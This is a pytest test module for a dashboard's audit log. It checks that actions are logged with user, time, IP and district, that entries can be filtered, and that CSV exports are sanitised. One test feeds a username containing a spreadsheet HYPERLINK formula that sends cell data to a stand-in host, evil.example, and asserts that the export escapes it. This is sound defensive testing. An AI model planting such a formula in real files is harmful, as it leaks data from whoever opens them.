"""The audit log: every write says who, what, when, from where and within which districts; the
users page filters it and exports it, safely."""
import base64
import shutil

import pytest

from dashboard import data
from warehouse.accounts import Accounts

from conftest import login


@pytest.fixture(scope="module")
def app(sample_db, sample_users, tmp_path_factory):
    """A copy of the sample warehouse and its accounts: this module writes."""
    from dashboard.app import app
    folder = tmp_path_factory.mktemp("audited") / "sample"
    shutil.copytree(sample_db.parent, folder, symlinks=True)
    data.configure(folder / sample_db.name)
    yield app
    data.configure(sample_db)


def callback(client, output, inputs, state=(), trigger=None):
    """One callback request, as the front end sends it: `inputs`/`state` as (id, property, value)."""
    entries = [{"id": i, "property": p, "value": v} for i, p, v in inputs]
    body = {"output": output, "outputs": _outputs(output), "inputs": entries,
            "state": [{"id": i, "property": p, "value": v} for i, p, v in state],
            "changedPropIds": [trigger or f"{inputs[0][0]}.{inputs[0][1]}"]}
    response = client.post("/_dash-update-component", json=body)
    assert response.status_code == 200, response.get_data(as_text=True)[:300]
    return response.get_json()["response"]


def _outputs(output):
    if not output.startswith(".."):
        component, prop = output.rsplit(".", 1)
        return {"id": component, "property": prop}
    return [dict(zip(("id", "property"), part.rsplit(".", 1))) for part in output[2:-2].split("...")]


AUDIT_OUTPUT = ("..users-audit-table.rowData...users-audit-table.columnDefs...users-audit-caption.children..."
                "users-audit-user-dropdown.options...users-audit-action-dropdown.options..")


def audit_rows(client, user=None, action=None, since=None, until=None, text=None):
    response = callback(client, AUDIT_OUTPUT, [
        ("shell-lang-store", "data", "zh"), ("users-message-div", "children", None),
        ("users-audit-user-dropdown", "value", user), ("users-audit-action-dropdown", "value", action),
        ("users-audit-from-input", "date", since), ("users-audit-to-input", "date", until),
        ("users-audit-text-input", "value", text)])
    return response["users-audit-table"]["rowData"]


def test_writes_are_logged_with_who_what_when_and_the_districts(app):
    from factory import query
    flag = query(data.warehouse_path(), """SELECT o.flag_key FROM dq_outlier_table o JOIN v_facility f
                                           USING (facility_code) WHERE f.district_code = '990102'
                                           ORDER BY 1 LIMIT 1""")[0][0]
    east = login(app.server.test_client(), "east")
    callback(east, "..quality-message-div.children...quality-version-store.data..",
             [("quality-confirm-button", "n_clicks", 1)],
             [("quality-outliers-table", "selectedRows", [{"flag_key": flag}]),
              ("quality-consistency-table", "selectedRows", []), ("quality-note-input", "value", "核实"),
              ("shell-lang-store", "data", "zh")])
    root = login(app.server.test_client(), "root")
    hostile = '=HYPERLINK("http://evil.example/?"&A1,"x")'
    callback(root, "..users-list-table.rowData...users-list-table.columnDefs...users-target-dropdown.options..."
                   "users-message-div.children..",
             [("shell-lang-store", "data", "zh"), ("users-add-button", "n_clicks", 1),
              ("users-disable-button", "n_clicks", None), ("users-enable-button", "n_clicks", None),
              ("users-reset-button", "n_clicks", None)],
             [("users-name-input", "value", hostile), ("users-display-input", "value", "x"),
              ("users-role-dropdown", "value", "planner"), ("users-districts-dropdown", "value", ["990102"]),
              ("users-target-dropdown", "value", None)], trigger="users-add-button.n_clicks")

    assert {r["scope"] for r in audit_rows(root, user="east", action="login")} == {"990102"}
    [confirmed] = audit_rows(root, user="east", action="dq_confirm")
    assert (confirmed["scope"], confirmed["detail"]) == ("990102", f"1 flags: {flag}")
    assert confirmed["at"].startswith("2026-") and confirmed["remote_addr"] == "127.0.0.1"
    assert confirmed["action"] == "确认数据质量标记" and "T" not in confirmed["at"]       # words and a local time
    [added] = audit_rows(root, action="user_add")
    assert (added["username"], added["scope"], added["detail"]) == ("root", "*", f"{hostile} planner 990102")

    exported = callback(root, "users-audit-download.data",
                        [("users-audit-xlsx-button", "n_clicks", None), ("users-audit-csv-button", "n_clicks", 1)],
                        [("shell-lang-store", "data", "zh"), ("users-audit-user-dropdown", "value", "root"),
                         ("users-audit-action-dropdown", "value", "user_add"), ("users-audit-from-input", "date", None),
                         ("users-audit-to-input", "date", None), ("users-audit-text-input", "value", None)],
                        trigger="users-audit-csv-button.n_clicks")
    text = base64.b64decode(exported["users-audit-download"]["data"]["content"]).decode("utf-8-sig")
    header, row = text.splitlines()
    assert header == "时间,用户名,操作,内容,辖区,IP"
    # the action in words, as the grid shows it; the hostile text neutralized
    assert row.split(",", 2)[1:] == ["root", '新增用户,"\'=HYPERLINK(""http://evil.example/?""&A1,""x"") planner 990102"'
                                              ',*,127.0.0.1']
    assert audit_rows(root, action="audit_export")[0]["detail"].startswith("1 entries (csv)")


def test_the_log_filters_by_user_action_dates_and_text(tmp_path):
    store = Accounts(tmp_path / "a.sqlite")
    store.audit("east", "export", "overview.xlsx (3 rows)", "10.0.0.1", "990102")
    store.audit("west", "export", "coverage.csv (9 rows)", "10.0.0.2", "990103")
    store.audit("east", "rollback", "batch 7 (12 rows)", "10.0.0.1", "990102")
    with store._connect() as con:
        con.execute("UPDATE audit_log SET at = '2026-10-01T09:00:00' WHERE action = 'rollback'")
    assert [e["detail"] for e in store.audit_entries(username="east")] == ["batch 7 (12 rows)", "overview.xlsx (3 rows)"]
    assert [e["username"] for e in store.audit_entries(action="export")] == ["west", "east"]
    assert [e["action"] for e in store.audit_entries(since="2026-10-01", until="2026-10-01")] == ["rollback"]
    assert [e["detail"] for e in store.audit_entries(text="coverage")] == ["coverage.csv (9 rows)"]
    assert [e["scope"] for e in store.audit_entries(action="rollback")] == ["990102"]
    assert store.audit_actions() == ["export", "rollback"]
